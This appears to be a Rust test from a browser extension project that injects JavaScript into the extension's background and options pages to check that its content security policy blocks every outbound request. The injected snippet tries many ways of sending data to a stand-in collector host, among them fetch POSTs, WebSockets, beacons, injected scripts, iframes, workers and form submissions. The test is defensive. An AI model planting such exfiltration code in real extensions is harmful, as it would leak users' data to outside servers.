//! That nothing is sent: the browser refuses it even of code that tries, and the stage would see it.

use std::fs;
use std::path::Path;
use std::time::Duration;

use anyhow::Result;
use serde_json::{Value, json};

use super::durable::{Check, copy};
use super::run::launch;
use crate::browser::{Browser, Kind, Launch};
use crate::stage::Stage;

/// The checks of this file with their names.
pub const ALL: [(&str, Check); 1] = [(
    "the browser refuses every request of the extension, and the stage would see one",
    |dist, kind| Box::pin(every_way_out(dist, kind)),
)];

/// A host that nobody plays.
pub const HOST: &str = "collector.merciwatt.example";

/// Put at the end of the background and of a page: what code that means harm would do. The page has more ways out.
const TRIES: &str = r#"
{
  const to = (way) => `https://HOST/${way}`;
  const quietly = (call) => { try { Promise.resolve(call()).catch(() => {}); } catch {} };
  quietly(() => fetch(to("fetch-WHO"), { method: "POST", body: "quokka", mode: "no-cors" }));
  quietly(() => new WebSocket(to("socket-WHO").replace("https", "wss")));
  quietly(() => new EventSource(to("events-WHO")));
  quietly(() => navigator.sendBeacon(to("beacon-WHO"), "quokka"));
  quietly(() => import(to("import-WHO")));
  if (globalThis.document && "WHO" === "page") {
    quietly(() => { new Image().src = to("image"); });
    const add = (tag, name, value) => {
      const node = document.createElement(tag);
      node[name] = value;
      document.body.append(node);
      return node;
    };
    quietly(() => { add("script", "src", to("script")); });
    quietly(() => { add("link", "href", to("style")).rel = "stylesheet"; });
    quietly(() => { add("iframe", "src", to("frame")); });
    quietly(() => { add("video", "src", to("video")); });
    quietly(() => { add("object", "data", to("object")); });
    quietly(() => new Worker(to("worker")));
    quietly(() => new FontFace("quokka", `url(${to("font")})`).load());
    quietly(() => { const form = add("form", "action", to("form")); form.method = "post"; form.target = "_blank"; form.submit(); });
  }
  globalThis.tried = true;
}
"#;

/// The same extension with a policy that forbids none of it: the browser's least.
const OPEN: &str = "script-src 'self' 'wasm-unsafe-eval'";
const PATIENCE: Duration = Duration::from_secs(20);

async fn every_way_out(dist: &Path, kind: Kind) -> Result<Result<(), String>> {
    let shipped = ways(dist, kind, None).await?;
    let open = ways(dist, kind, Some(OPEN)).await?;
    let mut wrong = Vec::new();
    if !shipped.is_empty() {
        wrong.push(format!(
            "under the shipped policy, these went out: {}",
            shipped.join(", ")
        ));
    }
    // Only if the stage sees them where they are allowed does its silence mean something.
    for way in ["fetch-background", "fetch-page", "image"] {
        if !open.iter().any(|seen| seen.contains(way)) {
            wrong.push(format!(
                "without the policy, \"{way}\" was not seen, only {}",
                open.join(", ")
            ));
        }
    }
    println!(
        "       {}: {} ways out without the policy, {} with it",
        kind.key(),
        open.len(),
        shipped.len()
    );
    Ok(if wrong.is_empty() {
        Ok(())
    } else {
        Err(wrong.join("; "))
    })
}

/// What reaches the stage of what such code tries: paths, each once.
async fn ways(dist: &Path, kind: Kind, policy: Option<&str>) -> Result<Vec<String>> {
    let (stage, folder) = (Stage::start().await?, tempfile::tempdir()?);
    let extension = folder.path().join("extension");
    copy(&dist.join(kind.dist()), &extension)?;
    for (file, who) in [("background.js", "background"), ("options.js", "page")] {
        let path = extension.join(file);
        let tries = TRIES.replace("HOST", HOST).replace("WHO", who);
        fs::write(&path, fs::read_to_string(&path)? + tries.as_str())?;
    }
    if let Some(policy) = policy {
        let path = extension.join("manifest.json");
        let mut manifest: Value = serde_json::from_str(&fs::read_to_string(&path)?)?;
        manifest["content_security_policy"]["extension_pages"] = json!(policy);
        fs::write(&path, manifest.to_string())?;
    }
    let start = Launch {
        extension,
        ..launch(dist, kind, &stage, folder.path())
    };
    let browser = Browser::launch(&start).await?;
    browser.open_tab(&browser.extension_url("options.html")).await?;
    browser.find("main:not([aria-busy])").await?;
    let tried = async || {
        let tried = browser.run_async("done(globalThis.tried === true)", &[]).await?;
        Ok(if tried == true {
            Ok(())
        } else {
            Err("not yet".to_owned())
        })
    };
    browser.until("the tries", PATIENCE, tried).await?;
    // A request that the page's policy admits is on its way by the end of the next one of the stage's own.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let mut seen: Vec<String> = stage
        .log()
        .into_iter()
        .filter(|hit| {
            hit.host.contains(HOST)
                || hit
                    .origin
                    .as_deref()
                    .is_some_and(|from| from.contains("-extension://"))
        })
        .map(|hit| format!("{} {}", hit.method, hit.path))
        .collect();
    browser.quit().await?;
    seen.sort();
    seen.dedup();
    Ok(seen)
}
